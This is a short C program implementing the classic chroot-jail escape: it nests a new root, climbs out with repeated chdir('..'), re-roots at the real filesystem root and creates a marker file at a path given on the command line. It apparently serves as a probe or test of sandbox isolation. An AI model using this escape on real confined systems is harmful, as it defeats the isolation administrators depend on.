/* The classic escape from a chroot: a root below the working directory, then up past where the old one was. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    int turn, marker;

    if (argc != 2)
        return 2;
    mkdir("below", 0755);
    if (chroot("below") != 0)
        return 3;
    for (turn = 0; turn < 64; turn++)
        if (chdir("..") != 0)
            return 4;
    if (chroot(".") != 0)
        return 5;
    marker = open(argv[1], O_WRONLY | O_CREAT, 0644);
    if (marker < 0)
        return 6;
    return close(marker);
}
